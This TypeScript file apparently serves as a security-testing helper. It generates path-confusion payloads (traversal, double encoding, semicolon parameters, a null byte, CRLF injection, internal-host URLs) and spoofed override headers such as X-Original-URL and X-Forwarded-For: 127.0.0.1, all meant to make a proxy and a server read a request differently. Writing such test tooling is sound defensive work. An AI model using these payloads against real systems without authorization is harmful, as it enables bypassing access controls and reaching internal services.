/** Ways to write a path so that a proxy and a server may read it differently (NET-2). */
export function pathTricks(path: string, internalHost: string): readonly string[] {
  const [, first = '', ...rest] = path.split('/');
  const tail = rest.length === 0 ? '' : `/${rest.join('/')}`;
  const encoded = `%${first.charCodeAt(0).toString(16)}${first.slice(1)}`;
  return [
    path,
    `/${path}`,
    `///${path}`,
    `/./${path.slice(1)}`,
    `/healthz/..${path}`,
    `/%2e${path}`,
    `/healthz/%2e%2e${path}`,
    `/healthz/%252e%252e${path}`,
    `/healthz/..;${path}`,
    `/healthz;x=1/..${path}`,
    `/;${path}`,
    `/%2f${path.slice(1)}`,
    path.replaceAll('/', '%2f'),
    path.replaceAll('/', '%2F').replace('%2F', '/'),
    path.replaceAll('/', '\\'),
    `/${encoded}${tail}`,
    `/${first.toUpperCase()}${tail}`,
    path.toUpperCase(),
    `${path}/`,
    `${path}/.`,
    `${path};`,
    `${path};x=1`,
    `${path}?x=1`,
    `${path}#x`,
    `${path}%00`,
    `${path}%20`,
    `${path}%0d%0aX-A:%20b`,
    `${path}%zz`,
    `${path}.json`,
    `http://${internalHost}${path}`,
    `HTTP://localhost${path}`,
    `https://user@${internalHost}${path}`,
    path.slice(1),
    `@${internalHost}${path}`,
  ];
}

/** Headers with which proxies are told of another path, host or method. */
export function headerTricks(path: string, internalHost: string): readonly string[] {
  return [
    `X-Original-URL: ${path}`,
    `X-Rewrite-URL: ${path}`,
    `X-Forwarded-Path: ${path}`,
    `X-Forwarded-Host: ${internalHost}`,
    `X-Forwarded-Port: ${internalHost.split(':')[1] ?? ''}`,
    `X-HTTP-Method-Override: GET`,
    `Forwarded: for=127.0.0.1;host=${internalHost};proto=http`,
    `X-Forwarded-For: 127.0.0.1`,
    `X-Forwarded-Prefix: ${path}`,
    `X-Real-IP: 127.0.0.1`,
  ];
}
